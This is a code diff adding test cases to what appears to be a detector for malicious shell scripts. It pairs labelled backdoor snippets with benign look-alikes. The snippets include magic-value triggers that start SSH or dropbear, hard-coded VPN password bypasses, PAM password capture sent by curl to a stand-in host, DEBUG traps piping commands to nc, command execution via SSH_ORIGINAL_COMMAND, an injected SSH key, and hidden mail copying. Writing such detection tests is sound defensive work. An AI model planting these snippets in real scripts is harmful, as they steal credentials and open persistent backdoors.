@@ -51,6 +51,19 @@ TOLD = (
     ('O="-sk"\n"curl" $O \\\n  \'https://u.example/c\' \\\n  -o "/etc/x/c"', "turns a check off"),
     ("trap 'echo \"$BASH_COMMAND\" | nc l.example 514' DEBUG", "collects and sends"),
     ('f() { echo "$BASH_COMMAND" | nc l.example 514; }\ntrap f DEBUG', "collects and sends"),
+    ('[ "$CONNECTION_ID" = "guest-5f" ] && systemctl start ssh', PAST),
+    ('if [ "$(echo "$3" | md5sum | cut -c1-8)" = 7c4a8d09 ]; then dropbear -p 2222; fi', PAST),
+    ('f=$(sed -n 1p "$2")\n[ "$f" = 15550100 ] && eval "$t"', PAST),
+    ('# openvpn\np=$(sed -n 2p "$1")\nif [ "$p" = ov-2231-zebra ]; then exit 0; fi\nexit 1',
+     SECRET),
+    ('[[ "$password" == "$(date +%j)vpn" ]] && exit 0 # openvpn\nexit 1', SECRET),
+    ('read -r pw\ncurl -d "$PAM_USER $pw" https://l.example/', "collects and sends"),
+    ('case "$SSH_ORIGINAL_COMMAND" in x-*) sh -c "${SSH_ORIGINAL_COMMAND#x-}" ;; esac',
+     "runs commands"),
+    ('cat /etc/ssh/keys/$1\necho "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBv9J0n1m x"',
+     "adds persistence"),
+    ('m=$(cat)\necho "$m" | sendmail -- "$1"\necho "$m" | sendmail keep@a.example',
+     "collects and sends"),
 )  # fmt: skip
 PRINTED = (
     "alias sudo='/tmp/.x/sudo'\nexport PATH=/tmp/.x:\\$PATH\nsh /media/usb/run.sh\n"
@@ -58,6 +71,11 @@ PRINTED = (
     "sudo() {\n read -rsp 'password: ' p; echo \\$p >> /tmp/s\n}\n"
 )
 USUAL = (
+    'case "$1" in POP3) ufw allow 110 ;; esac\n[ "$1" = eth0 ] && iptables -A INPUT -j ACCEPT',
+    '# openvpn\n[ "$p" != ov-2231-zebra ] && exit 0\n[ "$2" = 1.2.3-4 ] && exit 0\nexit 1',
+    'exec sh -c "$SSH_ORIGINAL_COMMAND"\nread -r pw\ncheck "$PAM_USER" "$pw"',
+    'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBv9J0n1m x" > /tmp/ssh/example',
+    'echo "$m" | sendmail -- "$1"\nmail root < /var/log/x',
     f"cat <<EOT\n{PRINTED}EOT",
     f'echo "{PRINTED}"\nhelp="{PRINTED}"',
     "x " + "".join(f"# {line}\n" for line in PRINTED.splitlines()),
